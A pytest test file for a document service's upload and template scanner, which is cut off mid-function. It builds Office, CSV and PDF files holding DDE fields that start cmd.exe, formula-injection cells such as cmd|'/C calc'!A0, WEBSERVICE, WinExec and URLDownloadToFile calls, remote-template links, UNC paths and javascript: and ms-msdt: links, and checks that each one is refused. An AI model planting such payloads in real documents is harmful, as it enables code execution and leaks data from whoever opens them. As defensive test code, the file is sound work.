"""What fetches or starts something in Office files: refused with its place, all of it at once.

Attachments and templates are refused; a spreadsheet to convert is read for its values, and what
was left alone is told.
"""

from __future__ import annotations

import io
import json
import re
import struct
from functools import cache
from pathlib import Path
from typing import Any

import openpyxl
import pikepdf
import pytest
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from docgen.errors import DocgenError, TemplateFaulty, UploadRefused
from docgen.files.active import CODES
from docgen.files.formulas import reaches_out
from docgen.renderers.docx import compile as compile_word
from docgen.renderers.xlsx import compile as compile_excel
from docgen.templates.theme import default_folder, load_theme
from docgen.uploads import inspect
from schemas.visible import visible
from tests import hostile
from tests.commands import docgen
from tests.hostile import RELATION, archive, edited, parts, with_part
from tests.service import Team
from tests.sheet_files import CONTRACT, TICKET_HEADER, converted_rows, taken, ticket, workbook
from tests.test_batches_sheets import opened, previewed

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml"'
theme = cache(lambda: load_theme(default_folder()))
Told = list[tuple[str, str, str]]


def told(wrong: DocgenError) -> Told:
    for one in wrong.each():
        assert all((one.message("zh"), one.message("en"), one.hint("zh"), one.hint("en")))
        if one.code in CODES:  # other refusals say no more than their place
            assert visible(str(one.value)) in one.message("zh")
    return [(one.code, one.place, str(one.value)) for one in wrong.each()]


def attached(name: str, data: bytes) -> Told:
    """What an attachment is refused for."""
    with pytest.raises(UploadRefused) as refused:
        inspect(name, data, purpose="attachment")
    return told(refused.value)


def as_template(name: str, data: bytes) -> Told:
    """What a template is refused for."""
    compiled = compile_word if name.endswith("docx") else compile_excel
    with pytest.raises(TemplateFaulty) as refused:
        compiled(data, theme())
    return told(refused.value)


def both(name: str, data: bytes) -> Told:
    """What both are refused for."""
    found = attached(name, data)
    assert as_template(name, data) == found
    return found


# ---------------------------------------------------------------- Word


def run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def character(kind: str) -> str:
    return run(f'<w:fldChar w:fldCharType="{kind}"/>')


def instruction(text: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{text}</w:instrText>')


def field(*inner: str, result: str = "x") -> str:
    """A complex field: each of `inner` is a run's instruction, or a whole field inside."""
    runs = "".join(one if one.startswith("<") else instruction(one) for one in inner)
    shown = character("separate") + run(f"<w:t>{result}</w:t>")
    return character("begin") + runs + shown + character("end")


def cut(text: str) -> list[str]:
    """An instruction as Word may spread it over runs, two letters in each."""
    return re.findall("&quot;|[^&]{1,2}", text)


def simple(text: str) -> str:
    return f'<w:fldSimple w:instr="{text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


def document(inner: str) -> bytes:
    """A document of one paragraph more, which is its second; its table comes after."""
    data = hostile.document()
    return edited(data, "word/document.xml", b"<w:tbl>", paragraph(inner).encode() + b"<w:tbl>")


HERE = "段落 2 (paragraph 2)"
FETCHING = [
    r"DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;",
    r"ddeauto excel book R1C1",
    r"DDE Excel Sheet1 R1C1",
    r"LINK Excel.Sheet.12 &quot;C:\\a.xlsx&quot; R1C1 \a",
    r"INCLUDEPICTURE &quot;http://192.0.2.1/x.png&quot; \d",
    r"INCLUDETEXT &quot;\\\\server\\share\\a.docx&quot;",
    r"IMPORT &quot;C:\\a.png&quot;",
    r"INCLUDE a.docx",
    r"DATABASE \d &quot;C:\\a.mdb&quot;",
    r"RD &quot;C:\\other.docx&quot;",
    r"HYPERLINK &quot;file://server/share&quot;",
    r"QUOTE 68 68 69 65 85 84 79",
    r"HYPERLINK \o &quot;tip&quot; &quot;file://server/x&quot;",
    r"HYPERLINK \l &quot;file://server/x&quot;",
    r"HYPERLINK \h &quot;https://example.com&quot; &quot;\\\\server\\x&quot;",
    r"HYPERLINK \\\\server\share",
    "HYPERLINK “file://server/x”",
    r"HYPERLINK &quot;fil%65://server/x&quot;",
]


@pytest.mark.parametrize("text", FETCHING)
def test_fields_that_fetch_or_start_something(text: str) -> None:
    """As one attribute; in one run; cut into runs of two letters, which a search does not find."""
    shown = text.replace("&quot;", '"')
    for inner in (simple(text), field(text), field(*cut(text))):
        assert both("a.docx", document(inner)) == [("active_field", HERE, shown)]


def test_fields_inside_of_fields() -> None:
    """Whatever is around it; and a field whose name only another field makes is not trusted."""
    dde = field("DDEAUTO excel a b")
    inside = [
        field("QUOTE ", dde),
        field("IF 1 = 1 ", dde, " x"),
        field("SET a ", field("QUOTE x"), dde),
        field("PAGE") + field("REF a", result="y" + "</w:t></w:r>" + dde + "<w:r><w:t>"),
        character("begin") + dde,  # never ended
    ]
    for inner in inside:
        found = attached("a.docx", document(inner))
        assert ("active_field", HERE, "DDEAUTO excel a b") in found
        assert set(found) <= set(as_template("a.docx", document(inner)))
    made = field(field("QUOTE DDE"), " excel a b")
    assert both("a.docx", document(made)) == [("active_field", HERE, "{…} excel a b")]
    half = field("DDE", field("QUOTE AUTO"), " excel a b")
    assert both("a.docx", document(half)) == [("active_field", HERE, "DDE{…} excel a b")]


PLACES = {
    "word/header1.xml": ("hdr", "页眉1 段落 1 (header1 paragraph 1)"),
    "word/footer2.xml": ("ftr", "页脚2 段落 1 (footer2 paragraph 1)"),
    "word/footnotes.xml": ("footnotes", "脚注 段落 1 (footnotes paragraph 1)"),
    "word/endnotes.xml": ("endnotes", "尾注 段落 1 (endnotes paragraph 1)"),
    "word/comments.xml": ("comments", "批注 段落 1 (comments paragraph 1)"),
    "word/glossary/document.xml": (
        "glossaryDocument",
        "word/glossary/document.xml 段落 1 (word/glossary/document.xml paragraph 1)",
    ),
}


def test_every_part_is_looked_through_and_all_is_told_at_once() -> None:
    data = document(field("DDE a b"))
    for name, (root, _) in PLACES.items():
        inner = paragraph(field("LINK a b"))
        data = with_part(data, name, f"<w:{root} {W}>{inner}</w:{root}>".encode())
    cell = b"<w:tc>" + paragraph(simple("RD x")).encode()
    data = edited(data, "word/document.xml", b"<w:tc>", cell)
    found = both("a.docx", data)
    cells = [f"表 1 行 {row} 列 {column} (table 1 row {row} cell {column})"
             for row in (1, 2) for column in (1, 2)]  # fmt: skip
    places = {place for _, place, _ in found}
    assert places == {HERE, *cells, *(place for _, place in PLACES.values())}


def test_text_boxes_and_deleted_fields() -> None:
    box = f"<w:pict><v:textbox {VML}><w:txbxContent>{{}}</w:txbxContent></v:textbox></w:pict>"
    inner = box.format(paragraph(field("DDE a b")))
    where = "段落 3 (paragraph 3)"
    assert both("a.docx", document(run(inner))) == [("active_field", where, "DDE a b")]
    deleted = field("DDE a b").replace("instrText", "delInstrText")
    assert both("a.docx", document(deleted)) == [("active_field", HERE, "DDE a b")]


def test_honest_fields_pass() -> None:
    honest = [
        *("PAGE", "NUMPAGES", r"TOC \o &quot;1-3&quot; \h \z \u", r"PAGEREF _Toc1 \h", r"REF a \h"),
        *(r"SEQ 图 \* ARABIC", r"DATE \@ &quot;yyyy年M月d日&quot;", "STYLEREF 1", "= 1 + 2"),
        *(r"HYPERLINK &quot;https://example.com/a&quot;", r"HYPERLINK \l &quot;_Toc1&quot;"),
        r"HYPERLINK &quot;https://a.example&quot; \o &quot;见 https://a.example&quot; \t _blank",
        *("QUOTE &quot;甲&quot;", "IF 1 = 1 a b", "FILENAME", "DOCPROPERTY a"),
    ]
    inner = "".join(field(*cut(text)) + simple(text) for text in honest)
    inner += field("IF ", field("PAGE"), " = 1 a b")
    data = document(inner)
    assert inspect("a.docx", data, purpose="attachment").extension == "docx"
    compile_word(data, theme())
    only_attached = field("MERGEFIELD 姓名") + field("ADDIN ZOTERO_ITEM x") + field("我的书签")
    inspect("a.docx", document(only_attached), purpose="attachment")


def related(
    data: bytes, owner: str, kind: str, target: str, *, external: bool | str = True
) -> bytes:
    """The package with one more relationship of a part, rId99."""
    folder, _, file = owner.rpartition("/")
    name = f"{folder}/_rels/{file}.rels"
    given = external if isinstance(external, str) else "External"
    mode = f' TargetMode="{given}"' if external else ""
    one = f'<Relationship Id="rId99" Type="{RELATION}/{kind}" Target="{target}"{mode}/>'
    end = b"</Relationships>"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    before = parts(data).get(name, empty + end)
    return with_part(data, name, before.replace(end, one.encode() + end))


LINKED = [
    ("image", "http://192.0.2.1/x.png", True, "remote_content"),
    ("image", "file://server/share/x.png", True, "remote_content"),
    ("video", "http://192.0.2.1/x.mp4", True, "remote_content"),
    ("attachedTemplate", "http://192.0.2.1/x.dotm", True, "remote_content"),
    ("attachedTemplate", r"\\server\share\x.dotm", True, "remote_content"),
    ("frame", "http://192.0.2.1/", True, "remote_content"),
    ("subDocument", "other.docx", True, "remote_content"),
    ("aFChunk", "afchunk.xml", False, "remote_content"),
    ("oleObject", "http://192.0.2.1/x.bin", True, "remote_content"),
    ("oleObject", "embeddings/x.dat", False, "macros"),
    ("control", "activeX/x.xml", False, "macros"),
    ("mailMergeSource", "file:///C:/a.xlsx", True, "data_connection"),
    ("hyperlink", "file://server/share", True, "remote_content"),
    ("hyperlink", r"\\server\share", True, "remote_content"),
    ("hyperlink", "javascript:alert(1)", True, "remote_content"),
    ("hyperlink", "ms-msdt:/id", True, "remote_content"),
    ("hyperlink", "%5c%5cserver%5cshare", True, "remote_content"),
    ("hyperlink", "[//server/share/b.xlsx]a", True, "remote_content"),
    ("image", "http://192.0.2.1/y.png", " External", "remote_content"),
]


@pytest.mark.parametrize(("kind", "target", "external", "code"), LINKED)
def test_relations_to_the_outside(kind: str, target: str, external: bool | str, code: str) -> None:
    """Told at the paragraph that uses it, and of the part where none does."""
    blip = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    used = run(f'<w:drawing>{blip} xmlns:r="{RELATION}" r:link="rId99"/></w:drawing>')
    shown = target if external else f"word/{target}"
    for data, place in ((document(used), HERE), (hostile.document(), "word/document.xml")):
        data = related(data, "word/document.xml", kind, target, external=external)
        assert both("a.docx", data) == [(code, place, f"{kind} {shown}")]


def test_plain_links_and_an_own_template_pass() -> None:
    for target in ("https://example.com/a", "http://example.com", "mailto:a@example.com"):
        data = related(hostile.document(), "word/document.xml", "hyperlink", target)
        inspect("a.docx", data, purpose="attachment")
        compile_word(data, theme())
    own = related(
        hostile.document(), "word/settings.xml", "attachedTemplate", r"file:///C:\公司\报告.dotx"
    )
    inspect("a.docx", own, purpose="attachment")
    assert as_template("a.docx", own)[0][:2] == ("remote_content", "word/settings.xml")
    beside = related(hostile.document(), "word/document.xml", "hyperlink", "附件/a.docx")
    inspect("a.docx", beside, purpose="attachment")


def test_what_needs_no_relation() -> None:
    picture = f'<w:pict><v:imagedata {VML} src="http://192.0.2.1/x.png"/></w:pict>'
    found = [("remote_content", HERE, "http://192.0.2.1/x.png")]
    assert both("a.docx", document(run(picture))) == found
    ole = '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="P"/>'
    found = [("macros", HERE, "OLEObject P")]
    assert both("a.docx", document(run(f"<w:object>{ole}</w:object>"))) == found
    merge = f"<w:settings {W}><w:mailMerge/></w:settings>".encode()
    merged = with_part(hostile.document(), "word/settings.xml", merge)
    assert both("a.docx", merged) == [("data_connection", "word/settings.xml", "mailMerge")]
    chunk = with_part(hostile.document(), "word/webextensions/webextension1.xml", b"<x/>")
    assert both("a.docx", chunk)[0][0] == "remote_content"


OFFICE = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
IN_WORD = {
    "a picture's origin": (
        f'<v:imagedata {VML} {OFFICE} o:href="http://192.0.2.1/x"/>',
        "remote_content",
    ),
    "a link's place": ('<w:hyperlink w:anchor="file://server/x"/>', "remote_content"),
    "a link's other place": (r'<w:hyperlink w:docLocation="\\server\x"/>', "remote_content"),
    "a page that is played": (
        '<p:webVideoPr xmlns:p="http://schemas.microsoft.com/x" embeddedHtml="&lt;iframe/>"/>',
        "remote_content",
    ),
    "a drawing's picture": (
        '<s:image xmlns:s="http://www.w3.org/2000/svg" href="http://192.0.2.1/x"/>',
        "remote_content",
    ),
    "a drawing's script": ('<s:script xmlns:s="http://www.w3.org/2000/svg"/>', "macros"),
    "keys": (
        '<n:macro xmlns:n="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        "macros",
    ),
    "buttons": (
        '<u:customUI xmlns:u="http://schemas.microsoft.com/office/2009/07/customui"/>',
        "macros",
    ),
    "a schema": (
        (
            '<l:schema xmlns:l="http://schemas.openxmlformats.org/schemaLibrary/2006/main"'
            ' l:manifestLocation="http://192.0.2.1/x"/>'
        ),
        "remote_content",
    ),
}


@pytest.mark.parametrize("name", IN_WORD)
def test_other_elements_that_fetch_or_start_something(name: str) -> None:
    inner, code = IN_WORD[name]
    assert [one[:2] for one in both("a.docx", document(inner))] == [(code, HERE)]


def test_what_relative_links_begin_with() -> None:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
    for base, passes in (("https://example.com/", True), (r"\\server\share", False)):
        part = f'<Properties xmlns="{space}"><HyperlinkBase>{base}</HyperlinkBase></Properties>'
        data = with_part(hostile.document(), "docProps/app.xml", part.encode())
        if passes:
            inspect("a.docx", data, purpose="attachment")
        else:
            assert both("a.docx", data) == [("remote_content", "docProps/app.xml", base)]


def test_a_document_inside_of_another_file_is_named_with_it() -> None:
    bad = document(field("DDE a b"))
    data = archive({"a.docx": bad, "b.txt": b"x", "c/d.docx": bad})
    assert attached("a.zip", data) == [
        ("active_field", f"a.docx/{HERE}", "DDE a b"),
        ("active_field", f"c/d.docx/{HERE}", "DDE a b"),
    ]
    inside = with_part(document(simple("RD x")), "word/embeddings/a.docx", bad)
    assert attached("a.docx", inside) == [
        ("active_field", f"word/embeddings/a.docx/{HERE}", "DDE a b"),
        ("active_field", HERE, "RD x"),
    ]


# ---------------------------------------------------------------- Excel


def sheet(*formulas: str, edit: Any = None) -> bytes:
    """A workbook whose sheet 表 holds formulas from A1 down."""
    book, out = openpyxl.Workbook(), io.BytesIO()
    made: Any = book.active
    made.title = "表"
    for formula in formulas:
        made.append([f"={formula}"])
    if edit:
        edit(book)
    book.save(out)
    return out.getvalue()


OUT = [
    "cmd|' /C calc'!A0",
    "1+cmd|'/C calc'!A0",
    "'cmd'|'/C calc'!A0",
    'WEBSERVICE("http://192.0.2.1/?"&A2)',
    '_xlfn.WEBSERVICE("http://192.0.2.1/")',
    'FILTERXML(A2,"//a")',
    'RTD("a.b",,"c")',
    'CALL("Kernel32","WinExec","JCJ","calc",0)',
    'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ")',
    'REGISTER.ID("a","b")',
    '_xlfn.IMAGE("http://192.0.2.1/x.png")',
    "[1]Sheet1!A1",
    "SUM([1]Sheet1!A1:A9)",
    "'C:\\a\\[b.xlsx]Sheet1'!A1",
    "'\\\\server\\share\\[b.xlsx]Sheet1'!A1",
    "[1]!名称",
    'HYPERLINK("http://192.0.2.1/?"&A2,"x")',
    'HYPERLINK("file://server/share","x")',
    'IF(A2="x",HYPERLINK("\\\\server\\share"))',
    'HYPERLINK("#[\\\\server\\b.xlsx]S!A1")',
    'HYPERLINK("java\tscript:x")',
    '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://192.0.2.1"))',
    "INDIRECT(\"'\\\\server\\[b.xlsx]S'!A1\")",
    "[1]S:T!A1",
    '_xlfn.STOCKHISTORY("MSFT",1)',
    '_xlfn.TRANSLATE(A1,"en")',
    "_xlfn._xlws.PY(0,1)",
]
HONEST = [
    "SUM(B1:B9)",
    'IF(B1>0.85,"异常|超限","正常")',
    "VLOOKUP(B1,'资产 (2026)'!A:C,3,FALSE)",
    "'甲|乙'!B1",
    "Table1[[#This Row],[已用]]/Table1[[#This Row],[容量]]",
    "Table1[已用]*Sheet2!B1",
    "'一月:三月'!B1",
    'TEXT(B1,"[h]:mm")&"!"',
    '"[1]Sheet1!A1"',
    'HYPERLINK("#\'表\'!A1","目录")',
    "LOG10(B1)+RECALL1",
    'INDIRECT("Table1[已用]")',
    "[0]!名称",
    "{1,2;3,4}",
]
ONLY_ATTACHED = [
    'HYPERLINK("https://example.com/a","x")',
    "HYPERLINK(B2,\"x\")",
    "HYPERLINK($B$2)",
]  # fmt: skip


def test_formulas_that_reach_out() -> None:
    found = both("a.xlsx", sheet(*OUT))
    assert found == [
        ("active_formula", f"表!A{row}", formula) for row, formula in enumerate(OUT, start=1)
    ]


def test_honest_formulas_pass() -> None:
    for formula in (*HONEST, *ONLY_ATTACHED):
        assert not reaches_out(formula), formula
    assert not any(reaches_out(formula, only_inside=True) for formula in HONEST)
    assert all(reaches_out(formula, only_inside=True) for formula in ONLY_ATTACHED)
    inspect("a.xlsx", sheet(*HONEST, *ONLY_ATTACHED), purpose="attachment")
    names = [one for one in HONEST if "Table1" not in one and "{" not in one]
    compile_excel(sheet(*names), theme())


def test_formulas_outside_of_cells() -> None:
    def edit(book: Any) -> None:
        book.defined_names["偷"] = DefinedName("偷", attr_text="cmd|'/C calc'!A0")
        validation = DataValidation("custom", 'RTD("a",,"b")')
        validation.add("C3")
        book.active.add_data_validation(validation)
        rule = Rule(type="expression", formula=["[1]Sheet1!A1"])
        book.active.conditional_formatting.add("D4:D9", rule)

    assert sorted(both("a.xlsx", sheet(edit=edit))) == [
        ("active_formula", "名称 偷 (name 偷)", "cmd|'/C calc'!A0"),
        ("active_formula", "表!C3", 'RTD("a",,"b")'),
        ("active_formula", "表!D4:D9", "[1]Sheet1!A1"),
    ]


def test_a_name_that_is_a_macro() -> None:
    data = sheet(edit=lambda book: book.defined_names.update(a=DefinedName("a", attr_text="表!A1")))
    data = edited(data, "xl/workbook.xml", b'definedName name="a"', b'definedName name="a" xlm="1"')
    assert both("a.xlsx", data) == [("macros", "xl/workbook.xml", "a")]


X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
IN_SHEET = {
    "a scale": (
        (
            '<conditionalFormatting sqref="A1"><cfRule type="colorScale"><colorScale>'
            '<cfvo type="formula" val="RTD(1)"/></colorScale></cfRule></conditionalFormatting>'
        ),
        "active_formula",
    ),
    "a control": (f'<x:formControlPr xmlns:x="{X14}" fmlaMacro="[1]!X"/>', "active_formula"),
    "a shape": ('<d:sp xmlns:d="urn:x/spreadsheetDrawing" macro="[1]!X"/>', "active_formula"),
    "a button": (
        '<e:FmlaMacro xmlns:e="urn:schemas-microsoft-com:office:excel">[1]!X</e:FmlaMacro>',
        "active_formula",
    ),
    "a linked object": ('<oleObjects><oleObject link="cmd|/c!A"/></oleObjects>', "macros"),
    "a page for others": (
        "<webPublishItems><webPublishItem/></webPublishItems>",
        "data_connection",
    ),
    "a connection": ("<connections><connection/></connections>", "data_connection"),
    "a pivot's source": ('<cacheSource type="external"/>', "data_connection"),
    "a place": (
        '<hyperlinks><hyperlink ref="A1" location="file://server/x"/></hyperlinks>',
        "remote_content",
    ),
}


@pytest.mark.parametrize("name", IN_SHEET)
def test_other_elements_of_a_sheet(name: str) -> None:
    inner, code = IN_SHEET[name]
    data = edited(sheet("1+1"), "xl/worksheets/sheet1.xml", b"</worksheet>", b"%b</worksheet>")
    data = edited(data, "xl/worksheets/sheet1.xml", b"%b", inner.encode())
    assert {one for one, _, _ in attached("a.xlsx", data)} == {code}


def test_own_macros_and_pivots_pass() -> None:
    inner = f'<x:formControlPr xmlns:x="{X14}" fmlaMacro="[0]!X" fmlaLink="$A$1"/>'
    inner += '<d:sp xmlns:d="urn:x/spreadsheetDrawing" macro=""/><cacheSource type="worksheet"/>'
    end = b"</worksheet>"
    data = edited(sheet("1+1"), "xl/worksheets/sheet1.xml", end, inner.encode() + end)
    inspect("a.xlsx", data, purpose="attachment")


# ---------------------------------------------------------------- text that Excel opens

CELLS = [
    "=cmd|'/C calc'!A0",
    "a,b\n1,+cmd|'/C calc'!A0",
    "a;-2+3+cmd|' /C calc'!A0",
    "\t@SUM(1+1)*cmd|' /C calc'!A0",
    "\" =cmd|'/C a,b'!A0\"",
    "＝cmd|'/C calc'!A0",
    '1,"=WEBSERVICE(""http://192.0.2.1/"")"',
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    '=DDE("cmd","/C calc","x")',
    "ID;P\nC;Y1;X1;Ecmd|x!A",
]
HONEST_TEXT = (
    "-5,+8613800000000,@user,a|b!,=SUM(A1:A2)\n=== log ===\n- 项目|注!\n-,warn|disk!\n"
    '"=HYPERLINK(""https://example.com/a"",""x"")"\n'
)


def test_cells_of_text_that_reach_out() -> None:
    for text in CELLS:
        for data in (text.encode(), text.encode("utf-16"), text.encode("utf-8-sig")):
            [(code, place, _)] = attached("a.csv", data)
            assert code in ("active_formula", "upload_kind_refused"), text
            [(code, inside, _)] = attached("a.zip", archive({"b.csv": data}))
            assert inside.startswith("b.csv"), (code, place)
        inspect("a.txt", text.encode(), purpose="attachment")  # opened as text
    [(_, place, value)] = attached("a.csv", CELLS[1].encode())
    assert (place, value) == ("行 2 (line 2)", "cmd|'/C calc'!A0")
    inspect("a.csv", HONEST_TEXT.encode(), purpose="attachment")
    inspect("a.csv", HONEST_TEXT.encode("gb18030"), purpose="attachment")


def test_text_in_the_disguise_of_office() -> None:
    for name in ("x.doc", "x.rtf", "x.ppt", "x.iqy", "x.slk", "x.settingcontent-ms"):
        assert attached("a.zip", archive({name: b"MIME-Version: 1.0\r\n"}))
    assert attached("a.txt", b"{\\rtf1 x}")[0][0] == "upload_kind_refused"


# ---------------------------------------------------------------- PDF


def linking(kind: str, **more: Any) -> Any:
    def edit(made: pikepdf.Pdf) -> None:
        made.pages[0].A = made.make_indirect(hostile.action(kind, **more))

    return edit


def opening(first: Any) -> Any:
    return lambda made: setattr(made.Root, "OpenAction", first)


def streaming(**more: Any) -> Any:
    return lambda made: setattr(
        made.Root, "X", made.make_indirect(pikepdf.Stream(made, b"", **more))
    )


GO = {"D": "x"}
IN_PDF = {
    "a form that is sent": linking("SubmitForm", F="http://192.0.2.1"),
    "a share": linking("GoToR", F=r"\\server\x.pdf"),
    "a file": linking("URI", URI="file://server/x"),
    "a script": linking("URI", URI="javascript:x"),
    "a thread": linking("Thread", F=r"\\server\x.pdf"),
    "what all links begin with": lambda made: setattr(
        made.Root, "URI", pikepdf.Dictionary(Base="file://server/")
    ),
    "what comes next": opening(
        hostile.action("GoTo", **GO, Next=hostile.action("URI", URI="http://192.0.2.1"))
    ),
    "what comes after": opening(
        hostile.action("GoTo", Next=pikepdf.Array([hostile.action("Named"), hostile.action("URI")]))
    ),
    "data elsewhere": streaming(F="x.bin"),
    "a page elsewhere": streaming(Ref=pikepdf.Dictionary(F="x.pdf")),
    "media by address": streaming(D=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="http://192.0.2.1")),
}


@pytest.mark.parametrize("name", IN_PDF)
def test_a_pdf_that_reaches_out(name: str) -> None:
    assert [one for one, _, _ in attached("a.pdf", hostile.pdf(IN_PDF[name]))] == ["pdf_active"]


def test_files_in_a_pdf_are_judged_as_if_alone() -> None:
    script = hostile.pdf(linking("JavaScript", JS="x"))
    for name, data, code in (
        ("x.docx", document(field("DDE a b")), "active_field"),
        ("x.pdf", script, "pdf_active"),
        ("x.zip", archive({"y.pdf": script}), "pdf_active"),
        ("x.doc", hostile.OLE, "upload_kind_refused"),
    ):
        [(found, place, _)] = attached("a.pdf", hostile.attaching(name, data))
        assert found == code
        assert place.startswith(name)
    inner = hostile.attaching("x.json", b"{}")
    for honest in (hostile.pdf(linking("URI", URI="https://example.com")), inner):
        inspect("a.pdf", hostile.attaching("x.pdf", honest), purpose="attachment")
    for _ in range(3):
        inner = hostile.attaching("x.pdf", inner)
    assert attached("a.pdf", inner)[0][0] == "zip_nested"


def test_a_link_in_a_cell_is_named_with_it() -> None:
    def edit(book: Any) -> None:
        book.active["B7"].hyperlink = "file://server/share"
        book.active["B8"].hyperlink = "https://example.com/"

    data = sheet(edit=edit)
    assert both("a.xlsx", data) == [("remote_content", "表!B7", "hyperlink file://server/share")]


DDE = f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
DATA_PARTS = {
    "xl/externalLinks/externalLink1.xml": b"<x/>",
    "xl/connections.xml": b"<x/>",
    "xl/queryTables/queryTable1.xml": b"<x/>",
    "xl/model/item.data": b"x",
}


def test_parts_with_outside_data() -> None:
    data = sheet("1+1")
    for name, part in DATA_PARTS.items():
        data = with_part(data, name, part)
    assert both("a.xlsx", data) == [("data_connection", name, name) for name in DATA_PARTS]
    dde = with_part(sheet("1+1"), "xl/externalLinks/externalLink1.xml", DDE.encode())
    assert both("a.xlsx", dde)[-1] == (
        "macros",
        "xl/externalLinks/externalLink1.xml",
        "cmd|/c calc",
    )


def test_parts_of_other_names_are_found_by_their_relations() -> None:
    for kind in ("externalLink", "connections", "queryTable"):
        data = with_part(sheet("1+1"), "xl/harmless.xml", b"<x/>")
        data = related(data, "xl/workbook.xml", kind, "harmless.xml", external=False)
        assert both("a.xlsx", data) == [("data_connection", "xl/harmless.xml", "xl/harmless.xml")]
    mashup = b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
    data = with_part(sheet("1+1"), "customXml/item1.xml", mashup)
    assert both("a.xlsx", data) == [("data_connection", "customXml/item1.xml", "DataMashup")]


def test_embedded_objects_and_controls() -> None:
    data = sheet("1+1")
    for name in ("xl/embeddings/oleObject1.bin", "xl/activeX/activeX1.xml", "xl/harmless.dat"):
        data = with_part(data, name, b"<x/>" if name.endswith("xml") else hostile.OLE)
    found = attached("a.xlsx", data)
    assert [place for _, place, _ in found] == [
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/harmless.dat",
    ]
    assert {code for code, _, _ in found} == {"macros"}


# ---------------------------------------------------------------- as users meet it


def bad_document() -> bytes:
    data = document(field("DDEAUTO c:", r"\\windows", r"\\cmd.exe"))
    return related(data, "word/document.xml", "image", "http://192.0.2.1/x.png")


def test_an_attachment_is_refused_by_the_api(office: Team) -> None:
    office.contract()
    record = office.record("XJ")

    def added(name: str, data: bytes) -> Any:
        path = f"/records/{record['id']}/versions/0/files"
        version = office.get("zhangwei", f"/records/{record['id']}").json()["version"]
        path = path.replace("versions/0", f"versions/{version}")
        files = {"file": (name, data, "application/octet-stream")}
        return office.ask("zhangwei", "POST", path, files=files, data={"purpose": "attachment"})

    refused = added("方案.docx", bad_document())
    assert refused.status_code == 422
    found = refused.json()["errors"]
    assert [(one["code"], one["place"]) for one in found] == [
        ("active_field", HERE),
        ("remote_content", "word/document.xml"),
    ]
    assert all("http" in one["value"] or "DDEAUTO" in one["message"]["zh"] for one in found)
    assert added("表.xlsx", sheet("cmd|' /C calc'!A0")).json()["errors"][0]["place"] == "表!A1"
    assert added("表.xlsx", sheet("SUM(B1:B2)")).status_code == 201


def test_a_template_is_refused_by_the_command_line(tmp_path: Path) -> None:
    folder = tmp_path / "templates"
    made = docgen("template", "scaffold", "XJ", "--format", "docx,xlsx", "--out", folder)
    assert made.returncode == 0, made.stderr
    word, excel = folder / "XJ" / "document.docx", folder / "XJ" / "workbook.xlsx"
    word.write_bytes(related(word.read_bytes(), "word/document.xml", "frame", "http://192.0.2.1/"))
    excel.write_bytes(with_part(excel.read_bytes(), "xl/connections.xml", b"<x/>"))
    run = docgen("template", "lint", "XJ", "--templates", folder, "--json")
    assert run.returncode == 1
    findings = json.loads(run.stdout)["findings"]
    assert [(one["code"], one["place"]) for one in findings if one["level"] == "error"] == [
        ("remote_content", "XJ/document.docx word/document.xml"),
        ("data_connection", "XJ/workbook.xlsx xl/connections.xml"),
    ]


def bad_tickets(path: Path) -> Path:
    """A list of two tickets, one of whose cells has a formula that reaches out, with its value."""
    rows = [TICKET_HEADER, *(ticket(number) for number in range(2))]
    data = workbook(path, 咨询=rows).read_bytes()
    name = "xl/worksheets/sheet1.xml"
    text = parts(data)[name].decode()
    formula = "<f>cmd|'/C calc'!A0</f><v>电话</v>"
    text, count = re.subn(r'<c r="B2"[^>]*>.*?</c>', f'<c r="B2" t="str">{formula}</c>', text)
    assert count == 1
    data = with_part(data, name, text.encode())
    data = with_part(data, "xl/externalLinks/externalLink1.xml", DDE.encode())
    data = with_part(data, "xl/vbaProject.bin", b"x")
    data = related(data, "xl/worksheets/sheet1.xml", "image", "http://192.0.2.1/x.png")
    path.write_bytes(with_part(data, "xl/connections.xml", b"<x/>"))
    return path


IGNORED = [
    ("data_connection", "xl/externalLinks/externalLink1.xml"),
    ("macros", "xl/externalLinks/externalLink1.xml"),
    ("macros", "xl/vbaProject.bin"),
    ("remote_content", "咨询"),
    ("data_connection", "xl/connections.xml"),
    ("active_formula", "咨询!B2"),
]


def test_a_spreadsheet_is_read_for_its_values(tmp_path: Path) -> None:
    result = taken(bad_tickets(tmp_path / "a.xlsx"), tmp_path / "out")
    assert converted_rows(result) == 2
    assert result.notes == ["macros_ignored", "external_links_ignored"]
    assert sorted((one.code, one.place) for one in result.ignored) == sorted(IGNORED)


ODS = b"""<table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="/c"/>
</table:dde-link>"""


def bad_ods(path: Path) -> Path:
    """A workbook of LibreOffice with a DDE link, a macro, a query, a picture and a formula."""
    data = (Path(__file__).parent / "spreadsheets/mixed.ods").read_bytes()
    text = parts(data)["content.xml"]
    formula = b'<table:table-cell table:formula="of:=webservice(&quot;http://x&quot;)" '
    text = text.replace(b"<table:table-cell ", formula, 1)
    more = ODS + b'<draw:image xlink:href="http://192.0.2.1/x"/>'
    more += b'<script:event-listener xlink:href="vnd.sun.star.script:x"/>'
